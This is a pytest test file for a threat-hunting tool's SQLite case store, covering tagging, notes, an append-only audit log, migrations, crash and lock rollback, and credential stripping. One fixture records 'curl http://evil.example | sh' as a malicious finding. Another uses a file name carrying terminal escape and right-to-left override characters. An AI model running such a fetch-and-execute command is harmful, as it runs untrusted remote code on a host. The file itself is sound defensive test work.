"""The case file as a store: refusing what is not a case, tags, notes, audit, rollbacks."""

from __future__ import annotations

import sqlite3
import subprocess
import sys
import textwrap

import pytest

import casefile
from casefile import FIXED_TAGS, CaseError, open_case, resolve_case_path, schema

HUNT = "1d7cae97-2dea-4f01-b04c-85fa4bd991d0"


def rows(n: int, start: int = 0) -> list[dict]:
    return [{"cc": 1, "file.name": f"f{i}.postinst", "process.executable": "/usr/bin/dpkg"} for i in range(start, start + n)]


def counts(path) -> dict[str, int]:
    conn = sqlite3.connect(path)
    try:
        return {t: conn.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in ("findings", "tags", "notes", "audit")}
    finally:
        conn.close()


def tag(case, items, tags=("suspicious",), **kw):
    kw.setdefault("source_kind", "offline")
    kw.setdefault("source", "sample")
    return case.tag_rows(items, list(tags), hunt_uuid=HUNT, query=0, **kw)


# ---------------------------------------------------------------- where and what
def test_case_path_precedence(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("HUNTBENCH_CASE", raising=False)
    assert resolve_case_path(None) == tmp_path / "huntbench-case.db"
    monkeypatch.setenv("HUNTBENCH_CASE", str(tmp_path / "env.db"))
    assert resolve_case_path(None) == tmp_path / "env.db"
    assert resolve_case_path(tmp_path / "given.db") == tmp_path / "given.db"


def test_new_case_has_metadata_wal_and_schema_version(tmp_path):
    with open_case(tmp_path / "c.db", name="Incident 42") as case:
        info = case.info()
    assert info["name"] == "Incident 42"
    assert info["schema_version"] == str(schema.current_version())
    assert info["journal_mode"] == "wal"
    assert info["created_by"] == casefile.current_user()
    conn = sqlite3.connect(tmp_path / "c.db")
    assert conn.execute("PRAGMA user_version").fetchone()[0] == schema.current_version()
    assert conn.execute("PRAGMA application_id").fetchone()[0] == schema.APPLICATION_ID


def test_text_file_is_refused_and_left_byte_for_byte(tmp_path):
    path = tmp_path / "notes.txt"
    path.write_bytes(b"my precious notes\n" * 20)
    with pytest.raises(CaseError, match="not a SQLite database"):
        open_case(path)
    assert path.read_bytes() == b"my precious notes\n" * 20
    assert not (tmp_path / "notes.txt-wal").exists()


def test_other_sqlite_database_is_refused_and_unchanged(tmp_path):
    path = tmp_path / "other.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE t(x)")
    conn.execute("INSERT INTO t VALUES (1)")
    conn.commit()
    conn.close()
    before = path.read_bytes()
    with pytest.raises(CaseError, match="not a huntbench case file"):
        open_case(path)
    assert path.read_bytes() == before


def test_newer_schema_is_refused(tmp_path):
    path = tmp_path / "c.db"
    open_case(path).close()
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {schema.current_version() + 1}")
    conn.close()
    with pytest.raises(CaseError, match="newer than this huntbench reads"):
        open_case(path)


def test_missing_case_is_not_created_when_reading(tmp_path):
    with pytest.raises(CaseError, match="no case file"):
        open_case(tmp_path / "nope.db", create=False)
    assert not (tmp_path / "nope.db").exists()


def test_migration_upgrades_an_old_file_and_a_failed_one_changes_nothing(tmp_path, monkeypatch):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(3))

    def v2_fails(db):
        yield "ALTER TABLE findings ADD COLUMN severity TEXT"
        yield "THIS IS NOT SQL"

    released = list(schema.MIGRATIONS)
    monkeypatch.setattr(schema, "MIGRATIONS", [*released, v2_fails])
    with pytest.raises(CaseError):
        open_case(path)
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == len(released)
    assert "severity" not in [r[1] for r in conn.execute("PRAGMA table_info(findings)")]
    conn.close()

    def v2(db):
        yield "ALTER TABLE findings ADD COLUMN severity TEXT"

    monkeypatch.setattr(schema, "MIGRATIONS", [*released, v2])
    with open_case(path) as case:
        assert case.info()["schema_version"] == str(len(released) + 1)
        assert len(case.findings()) == 3


def test_corrupted_case_file_gives_one_line_error(tmp_path):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(500))
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    conn.close()
    data = bytearray(path.read_bytes())
    data[4096:len(data)] = b"\xde\xad\xbe\xef" * ((len(data) - 4096) // 4)
    path.write_bytes(bytes(data))
    with pytest.raises(CaseError) as err:
        with open_case(path) as case:
            case.findings()
    assert "\n" not in str(err.value) and str(path) in str(err.value)


# ---------------------------------------------------------------- tagging
def test_tag_twice_gives_one_finding_with_both_tags_and_widened_times(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        first = tag(case, [{"@timestamp": "2026-11-20T10:00:00Z", "process.command_line": "sh -c x", "host.name": "web1"}])
        again = tag(case, [{"@timestamp": "2026-11-20T10:00:00.000Z", "process.command_line": "sh -c x", "host.name": "web1"}],
                    tags=["Needs Review"], note="checked with owner")
        assert (first.created, first.updated, again.created, again.updated) == (1, 0, 0, 1)
        assert first.finding_ids == again.finding_ids
        f = case.finding(first.finding_ids[0])
    assert f.tags == ["needs-review", "suspicious"]
    assert f.first_seen == "2026-11-20T10:00:00.000Z" and f.time_desc == "Event time"
    assert f.key["host.name"] == "web1"
    assert [(n.author, n.text) for n in f.notes] == [(casefile.current_user(), "checked with owner")]


def test_stats_row_seen_again_later_keeps_first_seen_and_moves_last_seen(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        row = {"events": 1, "first_seen": "2026-11-18T00:00:00Z", "last_seen": "2026-11-19T00:00:00Z", "agent.id": "a1"}
        ids = tag(case, [row]).finding_ids
        tag(case, [{**row, "events": 4, "first_seen": "2026-11-19T00:00:00Z", "last_seen": "2026-11-25T00:00:00Z"}])
        f = case.finding(ids[0])
    assert (f.first_seen, f.last_seen) == ("2026-11-18T00:00:00.000Z", "2026-11-25T00:00:00.000Z")
    assert f.row["events"] == 4


def test_retag_without_hunt_details_keeps_them(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        ids = tag(case, rows(1), hunt_name="Persistence via DPKG/RPM Package", mitre=["T1546.016"]).finding_ids
        tag(case, rows(1), tags=["malicious"], source="")
        f = case.finding(ids[0])
    assert (f.hunt_name, f.mitre, f.source) == ("Persistence via DPKG/RPM Package", ["T1546.016"], "sample")


def test_tags_are_normalised_and_bad_ones_refused(tmp_path):
    assert FIXED_TAGS == ("malicious", "suspicious", "benign", "needs-review")
    with open_case(tmp_path / "c.db") as case:
        out = tag(case, rows(1), tags=["MALICIOUS", "needs_review", "APT 29"])
        # Typed case is kept (the fixed verdicts keep their own spelling); ordered by key.
        assert case.finding(out.finding_ids[0]).tags == ["APT-29", "malicious", "needs-review"]
        for bad in ["a|b", "", "x,y", "\x1b[31m"]:
            with pytest.raises(CaseError, match="not usable"):
                tag(case, rows(1), tags=[bad])


def test_untag_and_note_are_audited_with_who_and_what(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        fid = tag(case, rows(1), tags=["suspicious", "benign"]).finding_ids[0]
        assert case.untag(fid, "Benign") is True
        assert case.untag(fid, "benign") is False
        case.add_note(fid, "owner confirmed")
        history = case.history(fid)
        assert case.tags_by_finding([fid, "nope"]) == {fid: ["suspicious"]}
    assert [h.action for h in history] == ["tag", "untag", "note"]
    assert history[1].detail == {"tags_removed": ["benign"]}
    assert all(h.who == casefile.current_user() and h.at.endswith("Z") for h in history)


def test_audit_log_is_append_only(tmp_path):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(2))
    conn = sqlite3.connect(path)
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("UPDATE audit SET who = 'mallory'")
    with pytest.raises(sqlite3.IntegrityError, match="append-only"):
        conn.execute("DELETE FROM audit")
    conn.close()
    assert counts(path)["audit"] == 2


def test_search_and_filter(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        tag(case, rows(3))
        fid = tag(case, [{"process.command_line": "curl http://evil.example | sh"}], tags=["malicious"]).finding_ids[0]
        case.add_note(fid, "Dropper from Evil Corp")
        assert [f.id for f in case.findings(tag="malicious")] == [fid]
        assert [f.id for f in case.findings(search="EVIL.example")] == [fid]
        assert [f.id for f in case.findings(search="evil corp")] == [fid]
        assert len(case.findings(search="postinst")) == 3


def test_values_with_nul_control_and_undecodable_bytes_are_kept_exactly(tmp_path):
    row = {"file.name": "evil\x00\udcff\x1b]0;pwned\x07.sh", "process.executable": "/bin/\u202etxt.sh"}
    with open_case(tmp_path / "c.db") as case:
        fid = tag(case, [row]).finding_ids[0]
    with open_case(tmp_path / "c.db") as case:
        f = case.finding(fid)
    assert f.row == row
    assert f.key["file.name"] == "evil\ufffd\ufffd\x1b]0;pwned\x07.sh"


def test_row_without_identifying_field_is_the_documented_whole_row_finding(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        a = tag(case, [{"count": 3}])
        b = tag(case, [{"count": 3}])
        f = case.finding(a.finding_ids[0])
    assert (a.created, b.updated) == (1, 1)
    assert f.id_basis == "row" and f.id_fields == []


def test_source_is_stored_without_credentials(tmp_path):
    with open_case(tmp_path / "c.db") as case:
        fid = tag(case, rows(1), source_kind="elastic",
                  source="https://elastic:s3cret@es.example:9200/?api_key=abc#x").finding_ids[0]
        assert case.finding(fid).source == "https://es.example:9200/"
    assert b"s3cret" not in (tmp_path / "c.db").read_bytes()


# ---------------------------------------------------------------- crashes and locks
def test_error_in_the_middle_of_a_batch_leaves_the_case_as_before(tmp_path, monkeypatch):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(10))
        before = counts(path)

        def boom(*args, **kwargs):
            raise RuntimeError("crash after the findings were written")

        monkeypatch.setattr(case, "_insert_tags", boom)
        with pytest.raises(RuntimeError):
            tag(case, rows(1000, start=5), note="lost")
        assert counts(path) == before
        monkeypatch.undo()
        assert tag(case, rows(1, start=2000)).created == 1


def test_several_results_in_one_action_are_saved_together_or_not_at_all(tmp_path):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        with pytest.raises(CaseError):
            with case.action():
                tag(case, rows(5))
                tag(case, rows(5, start=10), tags=["bad|tag"])
        assert counts(path)["findings"] == 0


KILLED_CHILD = textwrap.dedent("""
    import os, sys, time
    from casefile import open_case
    case = open_case(sys.argv[1])
    def pause(*args, **kwargs):
        print("mid-batch", os.path.getsize(sys.argv[1] + "-wal"), flush=True)
        time.sleep(60)
    case._insert_tags = pause
    rows = [{"file.name": f"k{i}", "process.executable": "/x" * 50} for i in range(20000)]
    case.tag_rows(rows, ["malicious"], source_kind="offline", source="kill test")
    print("finished", flush=True)
""")


def test_process_killed_mid_batch_leaves_the_case_as_before(tmp_path):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(10))
    before = counts(path)
    child = subprocess.Popen([sys.executable, "-c", KILLED_CHILD, str(path)], stdout=subprocess.PIPE, text=True)
    try:
        said, wal_size = child.stdout.readline().split()
        assert said == "mid-batch"
        assert int(wal_size) > 1_000_000  # the batch's pages really were being written
        child.kill()
    finally:
        child.wait(timeout=30)
    assert counts(path) == before
    with open_case(path) as case:  # and the case still works
        assert tag(case, rows(1, start=99)).created == 1


def test_locked_case_gives_one_line_error_and_nothing_changes(tmp_path):
    path = tmp_path / "c.db"
    open_case(path).close()
    holder = sqlite3.connect(path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        with open_case(path, busy_timeout=0.2) as case:
            with pytest.raises(CaseError) as err:
                tag(case, rows(5))
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert str(err.value) == f"case file {path} is locked by another process (busy for 0.2 s); try again"
    assert counts(path)["findings"] == 0


def test_full_disk_while_tagging_saves_nothing_and_says_so(tmp_path):
    path = tmp_path / "c.db"
    with open_case(path) as case:
        tag(case, rows(5))
        before = counts(path)
        pages = case._conn.execute("PRAGMA page_count").fetchone()[0]
        case._conn.execute(f"PRAGMA max_page_count = {pages + 2}")  # the file may not grow: a full disk
        with pytest.raises(CaseError, match="disk is full"):
            tag(case, rows(5000, start=100))
    assert counts(path) == before


def test_source_descriptions_lose_credentials_but_paths_stay_whole():
    from casefile.values import clean_source

    assert clean_source("elastic:pw@es.example:9200") == "es.example:9200"
    assert clean_source("https://[::1]:9200/prefix?api_key=x") == "https://[::1]:9200/prefix"
    assert clean_source("/data/exports@2026/file.ndjson") == "/data/exports@2026/file.ndjson"
    assert clean_source("osquery: web1") == "osquery: web1"
